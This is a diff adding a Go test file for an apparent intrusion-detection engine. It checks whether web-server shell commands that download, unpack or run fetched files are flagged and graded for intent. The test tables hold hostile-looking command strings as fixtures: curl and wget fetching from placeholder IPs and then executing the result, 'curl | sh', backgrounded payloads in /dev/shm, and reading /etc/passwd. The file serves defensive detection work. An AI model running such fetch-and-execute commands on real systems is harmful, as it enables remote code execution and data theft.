@@ -1,0 +1,99 @@
+package detect
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestRunsFetched: a command that runs what it could have fetched shows
+// more than staging.
+func TestRunsFetched(t *testing.T) {
+	for _, c := range []struct {
+		cmd  string
+		want bool
+	}{
+		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins && rm -f p.tgz 2>&1", false},
+		{"wget -q -O /var/www/html/data/rates.json http://192.0.2.7/rates.json", false},
+		{"curl -s http://192.0.2.7/x -o /tmp/x; /tmp/x", true},
+		{"curl -so /dev/shm/k http://192.0.2.7/k && nohup /dev/shm/k >/dev/null 2>&1 &", true},
+		{"cd /tmp && wget http://192.0.2.7/kit.tgz && tar xzf kit.tgz && ./kit/run", true},
+		{"cd /tmp; tar xf t.tar; cd t; sh install.sh", true},
+		{"wget -qO /tmp/a.py http://192.0.2.7/a.py; python3 /tmp/a.py", true},
+		{"wget -qO- http://192.0.2.7/x > /tmp/x.sh; . /tmp/x.sh", true},
+		{"curl -o /tmp/x http://192.0.2.7/x && timeout 60 /tmp/x -p 4444", true},
+		{"curl -o /tmp/x http://192.0.2.7/x && LD_PRELOAD=/tmp/x.so /usr/bin/id", false}, // judged by its own selections
+		{"tar -xzf /tmp/ext.tar.gz -C /srv/kb/www/ext", false},
+		{"sh -c 'echo ok'", false},
+		{"python3 -c 'print(1)'", false},
+	} {
+		if got := runsFetched(c.cmd); got != c.want {
+			t.Errorf("runsFetched(%q) = %v, want %v", c.cmd, got, c.want)
+		}
+	}
+}
+
+// TestStagingOnly: a web server's fetch or unpack needs corroboration; the
+// same with a sign of intent, or running what it fetched, does not.
+func TestStagingOnly(t *testing.T) {
+	for _, c := range []struct {
+		cmd  string
+		want bool
+	}{
+		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins", true},
+		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true},
+		{"wget -q http://198.51.100.7/x -O /tmp/x", true},
+		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false},
+		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false},
+		{"curl -s http://198.51.100.7/x | sh", false},
+		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false},
+		{"ls /tmp/", false}, // a temp path alone is no staging either: it shows intent as before
+	} {
+		s := newSynth()
+		e, err := New(Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got *Finding
+		for _, f := range e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree) {
+			if f.RuleID == "web-server-exploitation" {
+				got = f
+			}
+		}
+		if got == nil {
+			t.Errorf("%q: no web-server-exploitation finding", c.cmd)
+			continue
+		}
+		if got.NeedsCorroboration != c.want {
+			t.Errorf("%q: NeedsCorroboration = %v, want %v", c.cmd, got.NeedsCorroboration, c.want)
+		}
+	}
+}
+
+// TestIntentGradesEverySearch: a rule that grades intent must list every
+// one of its susp_ searches, since an unlisted search that matched would
+// show no intent and a match of it with a download would need
+// corroboration it does not.
+func TestIntentGradesEverySearch(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range e.Rules() {
+		graded := false
+		listed := map[string]bool{}
+		for _, m := range r.meanings {
+			graded = graded || m.intent != intentShown
+			for _, s := range m.selections {
+				listed[s] = true
+			}
+		}
+		if !graded {
+			continue
+		}
+		for name := range r.det.searches {
+			if strings.HasPrefix(name, "susp_") && !listed[name] {
+				t.Errorf("rule %s grades intent but lists no entry for %s", r.ID, name)
+			}
+		}
+	}
+}
